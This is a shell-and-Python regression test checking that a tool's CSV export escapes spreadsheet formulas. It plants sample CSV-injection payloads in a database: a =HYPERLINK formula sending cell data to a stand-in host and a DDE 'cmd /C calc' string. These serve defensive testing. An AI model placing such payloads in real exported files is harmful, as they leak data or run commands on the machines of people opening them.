# `vexp results DIR --csv` passed spreadsheet formulas through (issue #36 item 7.6): a
# received sweep.db whose parameters, statuses or messages start with = + - @ (or TAB,
# CR) became cells a spreadsheet evaluates (=HYPERLINK(...) sends data away when
# clicked; OWASP "CSV injection"). Now every text cell from the store that would be a
# formula starts with ', which spreadsheets show as text; numbers vexp writes itself
# (a negative parameter value, the lr, the metrics) stay numbers.
source "$(dirname "$0")/../lib.sh"
one_trial_sweep sw.toml plain
expect_rc 0 -- "$vexp" sweep sw.toml --out s --no-report
$PY - s/sweep.db <<'PY' || fail "could not edit sweep.db"
import json, sqlite3, sys
db = sqlite3.connect(sys.argv[1])
cols = [r[1] for r in db.execute("PRAGMA table_info(trials)")]
# The received file need not carry vexp's CHECK on statuses: a table of its own.
db.execute("CREATE TABLE t2 AS SELECT * FROM trials"); db.execute("DROP TABLE trials")
db.execute("ALTER TABLE t2 RENAME TO trials")
(params,) = db.execute("SELECT params FROM trials WHERE id=1").fetchone()
p = json.loads(params)
p["note"] = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
p["@key"] = "+1+cmd|' /C calc'!A0"
p["shift"] = -0.5          # a number: stays one
p["tab"] = "\t=1+1"
p["cr"] = "\r=1+1"
p["dash"] = "-2+3"
db.execute("UPDATE trials SET params=?, status=?, message=? WHERE id=1",
           (json.dumps(p), "@SUM(1+1)", '=HYPERLINK("http://x.invalid","m")'))
db.execute("UPDATE meta SET value=? WHERE key='name'", ("=HYPERLINK(\"http://x.invalid\",\"s\")",))
db.commit()
PY
expect_rc 0 -- "$vexp" results s --csv
cp "$tmp/out" results.csv
$PY - results.csv <<'PY' || fail "a formula reached the CSV"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
head, row = rows[0], rows[1]
assert len(rows) == 2 and len(head) == len(row), rows
cell = dict(zip(head, row))
def number(s):
    try: float(s); return True
    except ValueError: return False
for h, v in list(zip(head, head)) + list(zip(head, row)):
    if v[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert number(v), "formula cell %r = %r" % (h, v)
assert "'@key" in head, head
assert cell["'@key"] == "'+1+cmd|' /C calc'!A0", cell
assert cell["note"] == "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", cell["note"]
assert cell["status"] == "'@SUM(1+1)", cell["status"]
assert cell["message"] == "'=HYPERLINK(\"http://x.invalid\",\"m\")", cell["message"]
assert cell["tab"] == "'\t=1+1" and cell["cr"] == "'\r=1+1" and cell["dash"] == "'-2+3", cell
assert cell["shift"] == "-0.5", cell["shift"]           # vexp's own number: a number
assert number(cell["lr"]) and number(cell["global_batch"]) and number(cell["total_steps"]), cell
PY
no_crash
exit 0
